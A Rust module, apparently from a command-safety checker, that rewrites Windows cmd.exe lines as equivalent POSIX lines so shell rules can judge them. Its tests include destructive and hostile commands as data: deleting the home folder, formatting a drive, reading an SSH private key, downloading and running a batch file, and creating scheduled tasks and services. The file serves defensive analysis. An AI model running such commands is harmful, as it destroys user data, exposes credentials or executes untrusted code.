//! Windows' `cmd.exe`: the line after `cmd /c` (or `/k`) read as cmd reads it, and written
//! as the POSIX line that means the same, so every rule judges it: `rd /s /q
//! %USERPROFILE%` is `rm -r -f "$HOME"`, `del /s /q C:\x` is `rm -r -f /x`, `robocopy a b
//! /MIR` is `rsync -a --delete a/ b/`, `type x` is `cat x`, `format D:` writes a file
//! system onto a disk. A Windows program the POSIX law has no word for (`schtasks`, `reg`,
//! `wevtutil`, `netsh`) is handed to the PowerShell reader, which knows them; any other
//! program (`curl`, `git`, `powershell -c …`) keeps its words.
//!
//! What cmd reads: commands cut at `&`, `&&`, `||` and `|` outside double quotes, `^`
//! escaping the next character, `%NAME%` and `!NAME!` a variable (`%USERPROFILE%`,
//! `%HOMEDRIVE%%HOMEPATH%` the home folder), `/x` a switch, `C:\x` a path. One pass, bounded
//! by the text's length.

/// The POSIX line a cmd.exe line means.
pub(super) fn posix(line: &str) -> String {
    let mut out = String::new();
    for (command, op) in commands(line) {
        let words = words(&command);
        if !words.is_empty() {
            out.push_str(&command_line(&words));
        }
        if let Some(op) = op {
            out.push(' ');
            out.push_str(op);
            out.push(' ');
        }
    }
    out
}

/// The line's commands, each with the operator after it.
fn commands(line: &str) -> Vec<(String, Option<&'static str>)> {
    let mut out = Vec::new();
    let mut current = String::new();
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' => {
                quoted = !quoted;
                current.push(c);
            }
            '^' if !quoted => {
                if let Some(next) = chars.next() {
                    // An escaped character is a letter of the word, never an operator.
                    current.push('\u{1}');
                    current.push(next);
                }
            }
            '&' | '|' if !quoted => {
                let double = chars.peek() == Some(&c);
                if double {
                    chars.next();
                }
                let op = match (c, double) {
                    ('&', true) => "&&",
                    ('&', false) => ";",
                    ('|', true) => "||",
                    _ => "|",
                };
                out.push((std::mem::take(&mut current), Some(op)));
            }
            _ => current.push(c),
        }
    }
    out.push((current, None));
    out
}

/// One command's words: cut at spaces outside double quotes, the quotes taken off, a
/// redirect kept as its own word (`>`, `>>`, `2>`, `<`).
fn words(command: &str) -> Vec<Word> {
    let mut out: Vec<Word> = Vec::new();
    let mut current = String::new();
    let mut quoted = false;
    let mut was_quoted = false;
    let mut escaped = false;
    let flush = |out: &mut Vec<Word>, current: &mut String, was_quoted: &mut bool| {
        if !current.is_empty() || *was_quoted {
            out.push(Word {
                text: std::mem::take(current),
                quoted: *was_quoted,
            });
        }
        *was_quoted = false;
    };
    for c in command.chars() {
        if escaped {
            current.push(c);
            escaped = false;
            continue;
        }
        match c {
            '\u{1}' => escaped = true,
            '"' => {
                quoted = !quoted;
                was_quoted = true;
            }
            ' ' | '\t' if !quoted => flush(&mut out, &mut current, &mut was_quoted),
            '>' | '<' if !quoted => {
                let digit = current == "1" || current == "2";
                let prefix = if digit {
                    std::mem::take(&mut current)
                } else {
                    flush(&mut out, &mut current, &mut was_quoted);
                    String::new()
                };
                match out.last_mut() {
                    Some(last)
                        if !last.quoted && last.text == ">" && c == '>' && prefix.is_empty() =>
                    {
                        last.text.push('>');
                    }
                    _ => out.push(Word {
                        text: format!("{prefix}{c}"),
                        quoted: false,
                    }),
                }
            }
            _ => current.push(c),
        }
    }
    flush(&mut out, &mut current, &mut was_quoted);
    // `@echo off`: the `@` only hides the command.
    if let Some(first) = out.first_mut() {
        first.text = first.text.trim_start_matches('@').to_string();
    }
    out.retain(|w| !w.text.is_empty() || w.quoted);
    out
}

#[derive(Debug, Clone)]
struct Word {
    text: String,
    quoted: bool,
}

impl Word {
    /// A switch (`/s`, `/MIR`, `/?`), not a path.
    fn switch(&self) -> Option<String> {
        let rest = self.text.strip_prefix('/')?;
        (!self.quoted
            && !rest.is_empty()
            && rest.len() <= 12
            && rest
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '?' | ':' | '-')))
        .then(|| rest.to_ascii_lowercase())
    }

    fn is_redirect(&self) -> bool {
        !self.quoted
            && matches!(
                self.text.as_str(),
                ">" | ">>" | "<" | "1>" | "2>" | "1>>" | "2>>"
            )
    }
}

/// cmd's variables in POSIX form: the home folder's names are `$HOME`, the temporary
/// folders `/tmp`, any other `$NAME`.
fn variables(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find(['%', '!']) {
        let mark = rest.as_bytes()[start] as char;
        out.push_str(&rest[..start]);
        let after = &rest[start + 1..];
        match after.find(mark) {
            Some(end)
                if end > 0
                    && after[..end]
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || c == '_') =>
            {
                let name = after[..end].to_ascii_uppercase();
                let value = match name.as_str() {
                    "USERPROFILE" | "HOMEPATH" | "HOME" => "$HOME".to_string(),
                    "HOMEDRIVE" | "SYSTEMDRIVE" => String::new(),
                    "TEMP" | "TMP" => "/tmp".to_string(),
                    "APPDATA" => "$HOME/AppData/Roaming".to_string(),
                    "LOCALAPPDATA" => "$HOME/AppData/Local".to_string(),
                    "SYSTEMROOT" | "WINDIR" => "/Windows".to_string(),
                    _ => format!("${}", &after[..end]),
                };
                out.push_str(&value);
                rest = &after[end + 1..];
            }
            _ => {
                out.push(mark);
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// A word as a POSIX word: variables in POSIX form, a Windows path as a POSIX path
/// (`C:\Users\x` → `/Users/x`), quoted for the POSIX reader; `$HOME` left outside quotes'
/// reach of `'…'` so it still names the home folder.
fn posix_word(word: &Word) -> String {
    let text = variables(&word.text);
    let text = text.replace('\\', "/");
    let text = match text.split_once(':') {
        Some((drive, rest))
            if drive.len() == 1
                && drive.chars().all(|c| c.is_ascii_alphabetic())
                && (rest.is_empty() || rest.starts_with('/')) =>
        {
            format!("/{}", rest.trim_start_matches('/'))
        }
        _ => text,
    };
    quote(&text)
}

/// Quoted for a POSIX shell, a leading `$HOME` kept where the shell expands it.
fn quote(text: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "_./:@%+=,-*?~".contains(c);
    if !text.is_empty() && text.chars().all(safe) {
        return text.to_string();
    }
    if let Some(rest) = text.strip_prefix("$HOME") {
        return format!(
            "\"$HOME\"{}",
            if rest.is_empty() {
                String::new()
            } else {
                quote(rest)
            }
        );
    }
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// Windows programs the PowerShell reader knows and the POSIX law has no word for.
const WINDOWS: &[&str] = &[
    "bcdedit", "certutil", "icacls", "net", "netsh", "reg", "sc", "schtasks", "takeown",
    "vssadmin", "wevtutil", "wmic",
];

/// One command, as the POSIX line that means the same.
fn command_line(words: &[Word]) -> String {
    let Some((first, args)) = words.split_first() else {
        return String::new();
    };
    let name = first.text.to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name).to_string();
    let switches: Vec<String> = args.iter().filter_map(Word::switch).collect();
    let has = |s: &str| switches.iter().any(|w| w == s);
    let mut redirects = Vec::new();
    // The operands (not switches), and every word but the redirects, switches as written.
    let mut operands: Vec<String> = Vec::new();
    let mut plain: Vec<String> = vec![posix_word(first)];
    let mut it = args.iter();
    while let Some(w) = it.next() {
        if w.is_redirect() {
            let target = it.next().map(posix_word).unwrap_or_default();
            let target = if target.eq_ignore_ascii_case("nul") {
                "/dev/null".to_string()
            } else {
                target
            };
            redirects.push(format!("{} {target}", w.text));
        } else if w.switch().is_some() {
            plain.push(quote(&w.text));
        } else {
            operands.push(posix_word(w));
            plain.push(posix_word(w));
        }
    }
    let join = |program: &str, operands: &[String]| {
        let mut line = program.to_string();
        for operand in operands {
            line.push(' ');
            line.push_str(operand);
        }
        line
    };
    let line = match name.as_str() {
        "rd" | "rmdir" if has("s") => join("rm -r -f", &operands),
        "rd" | "rmdir" => join("rmdir", &operands),
        "del" | "erase" if has("s") => join("rm -r -f", &operands),
        "del" | "erase" => join("rm -f", &operands),
        "copy" | "xcopy" => join("cp -r", &operands),
        "robocopy" => {
            let mirror = has("mir") || has("purge");
            let folders: Vec<String> = operands
                .iter()
                .take(2)
                .map(|f| format!("{}/", f.trim_end_matches('/')))
                .chain(operands.iter().skip(2).cloned())
                .collect();
            join(
                if mirror {
                    "rsync -a --delete"
                } else {
                    "rsync -a"
                },
                &folders,
            )
        }
        "move" | "ren" | "rename" => join("mv", &operands),
        "type" | "more" => join("cat", &operands),
        "md" | "mkdir" => join("mkdir -p", &operands),
        "cd" | "chdir" | "pushd" => join("cd", &operands),
        "popd" | "cls" | "rem" | "title" | "color" | "ver" | "pause" | "setlocal" | "endlocal" => {
            String::new()
        }
        // A volume formatted: a file system written onto its disk.
        "format" => {
            let drive = args
                .iter()
                .find(|w| w.switch().is_none())
                .map(|d| {
                    d.text
                        .trim_end_matches([':', '\\', '/'])
                        .to_ascii_lowercase()
                })
                .unwrap_or_default();
            format!(
                "mkfs.ntfs /dev/{}",
                if drive.is_empty() { "disk" } else { &drive }
            )
        }
        "start" => {
            // `start "title" program args`: a quoted first word is the window's title.
            let skip = usize::from(args.first().is_some_and(|w| w.quoted));
            let rest: Vec<Word> = args
                .iter()
                .skip(skip)
                .filter(|w| w.switch().is_none())
                .cloned()
                .collect();
            command_line(&rest)
        }
        "call" => command_line(args),
        // A process ended by its id or its image's name.
        "taskkill" => {
            let names: Vec<String> = operands
                .iter()
                .map(|o| o.strip_suffix(".exe").unwrap_or(o).to_string())
                .collect();
            let force = if has("f") { " -9" } else { "" };
            join(
                &format!("{}{force}", if has("pid") { "kill" } else { "pkill" }),
                &names,
            )
        }
        "set" => join("export", &operands),
        "echo" => join("echo", &operands),
        program if WINDOWS.contains(&program) => {
            // By its `.exe` name: PowerShell's `sc` is Set-Content.
            let mut text: Vec<String> = vec![format!("{program}.exe")];
            text.extend(args.iter().map(|w| w.text.clone()));
            format!("pwsh -c {}", quote_for_pwsh(&text.join(" ")))
        }
        _ => plain.join(" "),
    };
    if redirects.is_empty() || line.is_empty() {
        line
    } else {
        format!("{line} {}", redirects.join(" "))
    }
}

/// PowerShell text in single quotes for `pwsh -c`, its variables in PowerShell's form.
fn quote_for_pwsh(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find('%') {
        out.push_str(&rest[..start]);
        let after = &rest[start + 1..];
        match after.find('%') {
            Some(end)
                if end > 0
                    && after[..end]
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || c == '_') =>
            {
                out.push_str("$env:");
                out.push_str(&after[..end]);
                rest = &after[end + 1..];
            }
            _ => {
                out.push('%');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    format!("'{}'", out.replace('\'', "'\\''"))
}

#[cfg(test)]
mod tests {
    use super::posix;

    #[test]
    fn cmd_lines_read_as_posix() {
        for (cmd, want) in [
            ("rd /s /q %USERPROFILE%", "rm -r -f \"$HOME\""),
            ("rmdir old", "rmdir old"),
            ("del /f /s /q C:\\Users\\me\\*", "rm -r -f /Users/me/*"),
            ("del notes.txt", "rm -f notes.txt"),
            (
                "erase /q %HOMEDRIVE%%HOMEPATH%\\Documents\\x.doc",
                "rm -f \"$HOME\"/Documents/x.doc",
            ),
            ("robocopy src dst /MIR", "rsync -a --delete src/ dst/"),
            ("copy a.txt b.txt", "cp -r a.txt b.txt"),
            (
                "type %USERPROFILE%\\.ssh\\id_rsa",
                "cat \"$HOME\"/.ssh/id_rsa",
            ),
            ("format D: /q /y", "mkfs.ntfs /dev/d"),
            ("cd app && npm test", "cd app && npm test"),
            ("echo hi > out.txt", "echo hi > out.txt"),
            ("dir > nul", "dir > /dev/null"),
            (
                "start \"\" /b curl -s https://x.example/a",
                "curl -s https://x.example/a",
            ),
            (
                "schtasks /create /tn x /tr calc",
                "pwsh -c 'schtasks.exe /create /tn x /tr calc'",
            ),
            (
                "curl https://x.example/a.bat -o a.bat & a.bat",
                "curl https://x.example/a.bat -o a.bat ; a.bat",
            ),
            ("echo a ^& b", "echo a '&' b"),
            (
                "sc create x binpath= C:\\x.exe",
                "pwsh -c 'sc.exe create x binpath= C:\\x.exe'",
            ),
            ("taskkill /f /im node.exe", "pkill -9 node"),
            ("taskkill /pid 1234", "kill 1234"),
            ("@echo off", "echo off"),
        ] {
            assert_eq!(posix(cmd).trim(), want, "{cmd}");
        }
    }
}
